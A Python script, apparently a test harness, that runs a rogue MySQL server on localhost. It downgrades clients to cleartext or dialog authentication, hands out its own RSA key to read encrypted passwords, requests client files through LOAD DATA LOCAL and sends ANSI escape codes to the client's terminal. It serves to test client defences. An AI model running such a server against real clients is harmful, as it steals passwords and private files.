#!/usr/bin/env python3
"""A server that is after passwords: it speaks the protocol up to the login, asks for an
authentication plugin of its choice, and writes down what it is told.

rogue.py FOLDER PLUGIN [--greet] [--tls] [--let-in]

--greet: it names the plugin in its greeting, too. --tls: it offers TLS, with FOLDER/cert.pem
and key.pem. --let-in: it takes any answer for the password, and asks each command for the file
FOLDER/private, as LOAD DATA LOCAL would. FOLDER/rsa.pem: the public key that it hands out as its own. FOLDER/port says when
and where it listens. FOLDER/heard gets a line for each packet: "tls VERSION CIPHER", "login BYTES",
"answer BYTES", "command BYTES", "file BYTES", "by-key BYTES" (encrypted by the key that it handed out, so that it can read it).
"""
import os
import socket
import ssl
import struct
import sys
import threading

folder, plugin = sys.argv[1:3]
with_tls = "--tls" in sys.argv
first = plugin if "--greet" in sys.argv else "mysql_native_password"
salt = b"0123456789abcdefghij"
CLIENT_SSL = 0x800
CAPABILITIES = 0x1 | 0x4 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x30000 | 0x80000 | 0x200000
QUESTION = b"\x02Who goes there? \x1b[31m"
# What each plugin is first told; dialog: a question for the person at the terminal.
opening = QUESTION if plugin == "dialog" else salt + b"\0"


class Peer:
    def __init__(self, connection):
        self.connection = connection
        self.number = 0

    def send(self, payload):
        header = struct.pack("<I", len(payload))[:3] + bytes([self.number & 255])
        self.connection.sendall(header + payload)
        self.number += 1

    def read(self, n):
        got = b""
        while len(got) < n:
            part = self.connection.recv(n - len(got))
            if not part:
                raise EOFError
            got += part
        return got

    def receive(self):
        header = self.read(4)
        self.number = header[3] + 1
        return self.read(int.from_bytes(header[:3], "little"))


def heard(what, text):
    line = f"{what} {text}\n".encode()
    fd = os.open(f"{folder}/heard", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    os.write(fd, line)
    os.close(fd)


def greeting():
    flags = CAPABILITIES | (CLIENT_SSL if with_tls else 0)
    return (
        b"\x0a8.0.40\0" + struct.pack("<I", 7) + salt[:8] + b"\0"
        + struct.pack("<HBHH", flags & 0xFFFF, 45, 2, flags >> 16)
        + bytes([21]) + bytes(10) + salt[8:] + b"\0" + first.encode() + b"\0"
    )


def encrypt(peer):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(f"{folder}/cert.pem", f"{folder}/key.pem")
    peer.connection = context.wrap_socket(peer.connection, server_side=True)
    heard("tls", " ".join(map(str, peer.connection.cipher()[1::-1])))


def key():
    with open(f"{folder}/rsa.pem", "rb") as file:
        return file.read()


def read_files(peer):
    peer.send(b"\0\0\0\2\0\0\0")
    heard("command", peer.receive())
    peer.send(b"\xfb" + folder.encode() + b"/private")
    heard("file", peer.receive())


def talk(peer):
    peer.send(greeting())
    login = peer.receive()
    if with_tls and len(login) == 32:
        encrypt(peer)
        login = peer.receive()
    heard("login", login)
    peer.send(b"\xfe" + plugin.encode() + b"\0" + opening)
    heard("answer", answer := peer.receive())
    if plugin == "caching_sha2_password":
        peer.send(b"\x01\x04")  # "I do not know you, so say all of it"
        heard("answer", answer := peer.receive())
    if plugin.endswith("sha2_password") and answer == b"\x02" or answer == b"\x01":
        peer.send(b"\x01" + key())
        heard("by-key", peer.receive())
    if plugin == "dialog":
        peer.send(b"\x05And your password? ")
        heard("answer", peer.receive())
    if "--let-in" in sys.argv:
        read_files(peer)
    peer.send(b"\xff" + struct.pack("<H", 1045) + b"#28000Thank you\x1b[31m")


def serve(connection):
    try:
        talk(Peer(connection))
    except (EOFError, OSError) as error:
        heard("gone", repr(error))
    connection.close()


def main():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    with open(f"{folder}/port.new", "w") as file:
        print(listener.getsockname()[1], file=file)
    os.rename(f"{folder}/port.new", f"{folder}/port")
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=serve, args=(connection,), daemon=True).start()


main()
